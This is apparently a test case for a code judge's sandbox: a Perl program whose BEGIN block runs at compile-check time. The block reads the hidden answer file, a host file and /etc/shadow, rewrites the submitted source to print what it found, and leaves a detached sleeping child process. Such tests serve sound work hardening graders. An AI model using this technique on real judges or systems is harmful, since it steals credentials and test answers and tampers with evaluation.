# expect {"language": "Perl", "status": ["CE", "WA", "RE"], "answer": "secret"}
# Runs while it is only checked: writes itself anew, with what it found, and leaves a child behind.
BEGIN {
    my $found = `cat %answer% %host-file% /etc/shadow 2>/dev/null`;
    if (open(my $f, ">", "/w/main.pl")) {
        print {$f} "print q($found);";
        close $f;
        unless (fork) { setpgrp; exec "sleep", "1000" }
    }
}
print 42, "\n";
